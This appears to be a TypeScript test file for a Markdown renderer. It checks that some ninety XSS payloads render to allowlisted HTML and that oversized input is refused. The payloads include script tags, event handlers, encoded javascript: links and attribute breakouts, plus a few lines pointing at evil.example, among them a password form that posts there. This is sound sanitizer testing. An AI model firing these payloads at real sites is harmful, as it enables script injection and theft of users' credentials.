import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { renderMarkdown } from './markdown.ts';
import { createRenderer } from './rendering.ts';

/** What attacks on Markdown renderers are made of: tags, handlers, schemes in all disguises, broken nesting. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example"</style>',
  '<form action=//evil.example><input name=p type=password></form>',
  '<!-- --><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](<java\tscript:alert(1)>)',
  '[x](java&Tab;script:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](javascript%3Aalert(1))',
  '[x](\\javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](\u00a0javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '[x](view-source:javascript:alert(1))',
  '[x](//evil.example)',
  '[x](/api/users/me)',
  '[x](#top)',
  '[x](http://a.example" onmouseover="alert(1))',
  "[x](http://a.example' onmouseover='alert(1))",
  '[x](http://a.example "t" onmouseover=alert(1))',
  '[x](http://a.example "\\" onmouseover=alert(1) x=\\"")',
  "[x](http://a.example '\"><script>alert(1)</script>')",
  '[<img src=x onerror=alert(1)>](http://a.example)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[x][r]\n\n[r]: http://a.example "\\"><script>alert(1)</script>"',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](http://tracker.example/a.gif)',
  '![x" onerror="alert(1)](http://a.example/a.gif)',
  '![x" onerror="alert(1)](/api/attachments/1)',
  '![x](/api/attachments/1" onerror="alert(1))',
  '![x](/api/attachments/../users/me?"onerror=alert(1))',
  '![![x](javascript:alert(1))](javascript:alert(1))',
  '[![x](data:text/html,1)](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<http://a.example/"onmouseover="alert(1)>',
  '<a@b.example"onmouseover=alert(1)>',
  'http://a.example/"onmouseover="alert(1)',
  'javascript:alert(1)//http://a.example',
  'http://a.example/<script>alert(1)</script>',
  'mailto:a@b.example?body=<script>alert(1)</script>',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '| <script>alert(1)</script> | b |\n|:-:"onmouseover=alert(1)|--|\n| c | d |',
  '# <script>alert(1)</script>\n===',
  '> <script>alert(1)</script>',
  '* <img src=x onerror=alert(1)>',
  '**<b onmouseover=alert(1)>x</b>**',
  '<b\u2028onmouseover=alert(1)>x</b>',
  '\u0000<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '@[<img src=x onerror=alert(1)>](/members/1)',
  '@[x](/members/1" onmouseover="alert(1))',
  '@[x](javascript:alert(1))',
];

const TAG = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/gi;
const TAGS = new Set(
  'p br hr em strong s a img code pre blockquote ul ol li h1 h2 h3 h4 h5 h6 table thead tbody tr th td'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set('href rel title src alt loading class start style'.split(' '));

/** Takes HTML apart as strictly as it was put together: anything else than listed tags and attributes fails. */
function assertSafe(html: string, source: string): void {
  const rest = html.replaceAll(TAG, (tag, _close, name: string, attributes: string) => {
    assert.ok(TAGS.has(name.toLowerCase()), `${tag} of ${JSON.stringify(source)}`);
    for (const [, key, value = ''] of attributes.matchAll(/\s+([a-z-]+)(?:="([^"]*)")?/gi)) {
      assert.ok(ATTRIBUTES.has(key!), `${key} of ${JSON.stringify(source)}`);
      if (key === 'href') assert.match(value, /^(https?:\/\/|mailto:)/i, source);
      if (key === 'src') assert.match(value, /^\/api\/attachments\/[\w./-]+$/, source);
      if (key === 'style') assert.match(value, /^text-align:(left|right|center)$/, source);
    }
    if (name === 'a' && attributes !== '') assert.match(attributes, /rel="nofollow ugc noopener"/, source);
    return '';
  });
  assert.doesNotMatch(rest, /[<>]/, `${JSON.stringify(source)} became ${html}`);
}

describe('Markdown as it is shown', () => {
  for (const source of ATTACKS)
    test(`is harmless: ${JSON.stringify(source)}`, () => {
      assertSafe(renderMarkdown(source)!, source);
      for (const around of [`**${source}**`, `> - ${source}`, `[a](${source})`, `| ${source} |\n|-|\n| x |`])
        assertSafe(renderMarkdown(around)!, around);
    });

  test('keeps what people write: emphasis, lists, code, tables, links that are marked as not ours', () => {
    const html = renderMarkdown(
      '**굵게** https://a.example/x?a=1&b=2 [b](mailto:b@c.example)\n\n|a|\n|-|\n|b|',
    )!;
    assert.match(html, /<strong>굵게<\/strong>/);
    assert.match(html, /<a href="https:\/\/a\.example\/x\?a=1&amp;b=2" rel="nofollow ugc noopener">/);
    assert.match(html, /<a href="mailto:b@c\.example" rel="nofollow ugc noopener">b<\/a>/);
    assert.match(html, /<td>b<\/td>/);
    assert.match(
      renderMarkdown('![a](/api/attachments/7)')!,
      /<img src="\/api\/attachments\/7" alt="a" loading="lazy">/,
    );
  });

  test('shows a member who is named by the name alone', () => {
    assert.equal(
      renderMarkdown('안녕 @[미나](/members/12), a@[b](/api/users/1)'),
      '<p>안녕 <strong>@미나</strong>, a@[b](/api/users/1)</p>\n',
    );
  });

  test('a text that takes too long or becomes too long is refused, and the next one is rendered', async (t) => {
    const [impatient, patient] = [createRenderer(1), createRenderer(10_000)];
    t.after(() => Promise.all([impatient.close(), patient.close()]));
    const wide = `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n${'|\n'.repeat(20_000)}`;
    const long = `${'x '.repeat(3_000)}**y**`;
    await assert.rejects(async () => impatient.render('content', wide), { code: 'invalid' });
    assert.match(await patient.render('content', long), /<strong>y<\/strong>/);
    await assert.rejects(async () => patient.render('content', wide), { code: 'invalid' });
    assert.match(await patient.render('content', long), /<strong>y<\/strong>/);
  });
});
